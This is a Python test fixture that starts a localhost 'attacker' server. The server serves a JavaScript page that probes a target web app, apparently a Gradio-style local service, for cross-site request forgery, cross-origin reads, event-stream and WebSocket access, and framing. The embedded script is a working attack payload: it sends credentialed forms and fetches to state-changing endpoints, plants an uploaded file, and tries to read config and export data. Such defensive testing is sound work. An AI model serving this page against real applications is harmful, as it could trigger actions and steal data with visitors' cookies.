"""A server that listens to what reaches it, as an attacker's would, and serves attacks on the application."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

STATE_CHANGING = (
    "/localspec/quit", "/localspec/enter", "/localspec/leave", "/gradio_api/upload", "/gradio_api/run/predict",
    "/gradio_api/queue/join", "/gradio_api/cancel", "/gradio_api/reset", "/gradio_api/call/predict",
    "/v1/chat/completions", "/login",
)  # fmt: skip

# What a page can do without being allowed anything, with the visitor's cookies as far as the browser sends them.
_PAGE = """<!DOCTYPE html><title>evil</title><body><script>
const app = %(app)s, paths = %(paths)s, done = {};
const note = (name, value) => { done[name] = value; };
const form = (path, kind, fields) => {
  const frame = document.createElement("iframe");
  frame.name = `f${document.querySelectorAll("iframe").length}`;
  document.body.append(frame);
  const made = document.createElement("form");
  Object.assign(made, { method: "post", action: app + path, enctype: kind, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("textarea");
    Object.assign(field, { name, value });
    made.append(field);
  }
  document.body.append(made);
  made.submit();
};
const planted = () => {
  const data = new FormData();
  data.append("files", new File(["planted"], "planted.txt", { type: "text/plain" }));
  return data;
};
(async () => {
  for (const path of paths) {
    for (const kind of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
      form(path, kind, { secret: "x", data: "{}", files: "planted" });
    }
    const body = path.endsWith("/upload") ? planted() : JSON.stringify({ data: [], fn_index: 0, session_hash: "evil" });
    for (const mode of ["no-cors", "cors"]) {
      await fetch(app + path, { method: "POST", mode, credentials: "include", body })
        .then(async (reply) => note(`${mode} ${path}`, reply.type === "opaque" ? "opaque" : await reply.text()))
        .catch((error) => note(`${mode} ${path}`, "blocked"));
    }
    navigator.sendBeacon(app + path, body);
  }
  for (const path of ["/config", "/export/all.json", "/gradio_api/app_id", "/localspec/instance", "/v1/models"]) {
    await fetch(app + path, { credentials: "include" })
      .then(async (reply) => note(`read ${path}`, await reply.text())).catch(() => note(`read ${path}`, "blocked"));
    for (const tag of ["script", "img", "link", "video"]) {
      await new Promise((settled) => {
        const made = document.createElement(tag);
        made.onload = made.onloadeddata = () => { note(`${tag} ${path}`, "loaded"); settled(); };
        made.onerror = () => { note(`${tag} ${path}`, "blocked"); settled(); };
        if (tag === "link") made.rel = "stylesheet";
        made[tag === "link" ? "href" : "src"] = app + path;
        document.body.append(made);
        setTimeout(settled, 3000);
      });
    }
  }
  for (const path of ["/localspec/changes", "/gradio_api/heartbeat/evil", "/gradio_api/queue/data?session_hash=evil"]) {
    await new Promise((settled) => {
      const source = new EventSource(app + path, { withCredentials: true });
      source.onopen = () => { note(`events ${path}`, "open"); settled(); };
      source.onerror = () => { note(`events ${path}`, "blocked"); source.close(); settled(); };
    });
  }
  await new Promise((settled) => {
    const socket = new WebSocket(app.replace("http", "ws") + "/gradio_api/queue/join");
    socket.onopen = () => { note("socket", "open"); settled(); };
    socket.onerror = () => { note("socket", "blocked"); settled(); };
  });
  const frame = document.createElement("iframe");
  frame.id = "framed";
  frame.src = app + "/";
  frame.onload = () => { window.done = done; };
  document.body.append(frame);
})();
</script>"""


class Evil:
    """What it has heard, beside visits to its own page."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.heard: list[str] = []

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def page(self, app: str, host: str = "127.0.0.1") -> str:
        """The address of a page that attacks `app`; `host` is what its visitor takes it for."""
        return f"http://{host}:{self.port}/attack?{app}"


@contextmanager
def listening() -> Iterator[Evil]:
    """An attacker's server, for as long as the block lasts."""

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            where = urlsplit(self.path)
            if where.path == "/attack":
                body = (_PAGE % {"app": json.dumps(where.query), "paths": json.dumps(STATE_CHANGING)}).encode()
            elif where.path == "/favicon.ico":
                body = b""
            else:
                evil.heard.append(f"{self.command} {self.path} {parse_qs(where.query)}")
                body = b"<svg xmlns='http://www.w3.org/2000/svg'/>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if where.path == "/attack" else "image/svg+xml")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = do_HEAD = do_OPTIONS = answer  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    evil = Evil(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield evil
    finally:
        server.shutdown()
        server.server_close()
